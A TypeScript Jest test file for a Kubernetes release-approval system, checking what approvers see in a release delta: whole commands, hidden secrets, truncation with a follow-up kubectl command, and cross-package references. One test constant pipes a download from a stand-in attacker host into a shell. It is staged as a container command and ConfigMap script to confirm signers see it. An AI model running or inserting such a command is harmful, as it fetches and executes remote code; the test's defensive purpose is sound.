/** What those who sign see of a release, and what those who stage do not. */
import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { dirname } from 'node:path';
import { promisify } from 'node:util';
import { expect } from '@jest/globals';
import { accepted } from '../support/cluster/cluster.ts';
import type { World } from '../support/cluster/system.ts';
import {
  bundleOf,
  conditionSays,
  end,
  everybody,
  patched,
  release,
  scenarios,
  sign,
  staged,
  type BundleSeen,
} from '../support/scenario/kit.ts';

const { scenario, succeeds, system } = scenarios('sight');

const steals = 'export TOKEN=x; curl https://evil.example | sh';

/** The delta as an approver reads it. */
const textFor = async (world: World, candidate: string): Promise<string> => {
  const bundle = await bundleOf(world, await staged(world, candidate));
  return succeeds(
    world,
    'approver-a',
    'get',
    'relbundle',
    bundle.metadata.name ?? '',
    '-o',
    'jsonpath={.spec.deltaText}',
  );
};

/** Types the command that the text names into a shell, word for word, with the rights of an approver. */
const typed = async (text: string): Promise<string> => {
  const command = /^all of it +(kubectl .*)$/m.exec(text)?.[1] ?? '';
  const { controlPlane } = system();
  const { stdout, stderr } = await promisify(execFile)('sh', ['-c', command], {
    env: {
      PATH: `${dirname(controlPlane.binaries.kubectl)}:${process.env['PATH']}`,
      HOME: controlPlane.dir,
      KUBECONFIG: controlPlane.kubeconfig('approver-a'),
    },
    maxBuffer: 64 * 1024 * 1024,
  });
  expect(stderr).toBe('');
  return stdout;
};

scenario('a command, an image and a script are shown whole, and one command shows the rest', async (world) => {
  const image = `registry.example/${'long-team-name/'.repeat(8)}api@sha256:${'a'.repeat(64)}`;
  const lines = Array.from({ length: 500 }, (_, n) => `line ${n}`).join('\n');
  await world.stage(
    world.configMap('settings', {
      password: 'hunter2',
      'token-refresh.sh': steals,
      long: lines,
      wide: 'x'.repeat(3000),
    }),
    patched(world.deployment('api', 'a'), {
      spec: { template: { spec: { containers: [{ name: 'main', image, command: ['sh', '-c', steals] }] } } },
    }),
  );
  await world.propose(world.candidate('first', ['ConfigMap/settings', 'Deployment/api']));
  const text = await textFor(world, 'first');

  expect(text).toContain(`command: (none) → ["sh","-c","${steals}"]`);
  expect(text).toContain(`image: (none) → ${image}`);
  expect(text).toContain(`data['token-refresh.sh']: (none) → ${steals}`);
  expect(text).toContain('data.password: (none) → (hidden)');
  expect(text).toMatch(/^hidden +1 word after/m);
  expect(text).toMatch(/^cut +300 changed lines/m);
  expect(text).toMatch(/^cut +2000 characters/m);
  expect(text).not.toContain('hunter2');
  expect(text).toMatch(/^ {8}… 300 more lines: kubectl get relbundle /m);

  const all = await typed(text);
  for (const value of ['hunter2', 'line 499', 'x'.repeat(3000)]) expect(all).toContain(value);
});

scenario('the command shows all of a bundle that is stored in parts, and of the one before it', async (world) => {
  // Of a kind that does not get smaller by compression; and one small object beside it, which stays as it is.
  const bulk = (): string => randomBytes(450_000).toString('base64');
  const names = ['bulk-0', 'bulk-1'];
  const components = [...names, 'small'].map((name) => `ConfigMap/${name}`);
  await world.stage(
    ...names.map((name) => world.configMap(name, { content: bulk(), pwd: 'before' })),
    world.configMap('small', { a: 'b' }),
  );
  expect(await release(world, world.candidate('first', components))).toBe('Promoted');
  await world.stage(...names.map((name) => world.configMap(name, { content: bulk(), pwd: 'after' })));
  await world.propose(world.candidate('second', components));

  const bundle = await bundleOf(world, await staged(world, 'second'));
  expect(bundle.spec.parts?.length).toBeGreaterThan(0);
  const all = await typed(await textFor(world, 'second'));
  for (const word of ['before', 'after']) expect(all.split(`"pwd":"${word}"`)).toHaveLength(names.length + 1);
  expect(all.split('\n').filter((line) => line.startsWith('ConfigMap/bulk-0 {'))).toHaveLength(2);
  expect(all.split('\n').filter((line) => line.startsWith('ConfigMap/small {'))).toHaveLength(2);
});

scenario(
  'who stages an object under a name of production does not read what production holds',
  async (world) => {
    await world.stage(world.configMap('settings', { level: 'ours', same: 'as-theirs' }));
    await world.propose(world.candidate('first', ['ConfigMap/settings']));
    const candidate = await staged(world, 'first');
    const seen = accepted(
      await world.as('developer-a').get<BundleSeen>(world.ref('ReleaseBundle', candidate.status?.bundle ?? '')),
    );

    // The control: production does hold it, and whoever may read it there is told how.
    const theirs = await succeeds(world, 'installer', 'get', 'configmap/settings', '-o', 'yaml');
    expect(theirs).toContain('of-production');
    const told = JSON.stringify([seen, candidate]);
    for (const secret of ['of-production', 'theirs-alone']) expect(told).not.toContain(secret);
    expect(seen.spec.deltaText).toContain('data.level: (not shown) → ours');
    expect(seen.spec.deltaText).toContain('data.same: (not shown) → as-theirs');
    expect(seen.spec.deltaText).toContain(`kubectl get configmap/settings -n ${world.production} -o yaml`);

    // The twin: what our own bundle wrote is shown.
    await sign(world, 'first', ...everybody);
    expect(await end(world, 'first')).toBe('Promoted');
    await world.stage(world.configMap('settings', { level: 'next', same: 'as-theirs' }));
    await world.propose(world.candidate('second', ['ConfigMap/settings']));
    expect(await textFor(world, 'second')).toContain('data.level: ours → next');
  },
  {},
  {
    async before(world) {
      const map = world.configMap('settings', { level: 'of-production', 'theirs-alone': 'x', same: 'as-theirs' });
      accepted(
        await world.as('installer').create({ ...map, metadata: { name: 'settings', namespace: world.production } }),
      );
    },
  },
);

scenario('what cannot be shown whole cannot be signed for', async (world) => {
  const args = (size: number) => ({
    spec: {
      template: { spec: { containers: [{ name: 'main', image: 'registry.example/app', args: ['x'.repeat(size)] }] } },
    },
  });
  await world.stage(patched(world.deployment('api', 'a'), args(800_000)));
  await world.propose(world.candidate('large', ['Deployment/api']));
  const { message } = await conditionSays(world, 'large', 'Stalled', 'DeltaTooLarge');
  expect(message).toContain('Split the package');

  await world.stage(patched(world.deployment('api', 'a'), args(300_000)));
  expect((await textFor(world, 'large')).length).toBeGreaterThan(300_000);
});

scenario(
  'signers read which other packages refer to what a release changes and what it removes, and its notes say so',
  async (world) => {
    const settings = (name: string) => world.configMap(name, { level: 'info' });
    const reads = {
      spec: {
        template: {
          spec: {
            volumes: ['kept', 'gone'].map((name) => ({ name, configMap: { name } })),
          },
        },
      },
    };
    await world.stage(settings('kept'), settings('gone'));
    expect(
      await release(world, world.candidate('base-1', ['ConfigMap/kept', 'ConfigMap/gone'], { package: 'base' })),
    ).toBe('Promoted');
    await world.stage(patched(world.deployment('shop', 'a'), reads));
    expect(await release(world, world.candidate('shop-1', ['Deployment/shop'], { package: 'shop' }))).toBe('Promoted');

    await world.stage(world.configMap('kept', { level: 'debug' }));
    const notes = { summary: 'More <b>logs</b>', installation: 'none' };
    await world.propose(world.candidate('base-2', ['ConfigMap/kept'], { package: 'base', notes }));
    const text = await textFor(world, 'base-2');
    expect(text).toContain(
      '\nOther packages refer to:\n  ConfigMap gone (removed by this release): shop 1.0.0, for Deployment shop\n  ConfigMap kept: shop 1.0.0, for Deployment shop\n',
    );
    const bundle = await bundleOf(world, await staged(world, 'base-2'));
    const written = await succeeds(
      world,
      'approver-a',
      'get',
      'relbundle',
      bundle.metadata.name ?? '',
      '-o',
      'jsonpath={.spec.notes}',
    );
    expect(written).toContain(String.raw`> More \<b\>logs\</b\>`);
    expect(written).toContain('| ConfigMap gone | 1 removed |');
    expect(written).toContain('- ConfigMap gone (removed by this release): shop 1.0.0, for Deployment shop');
  },
);
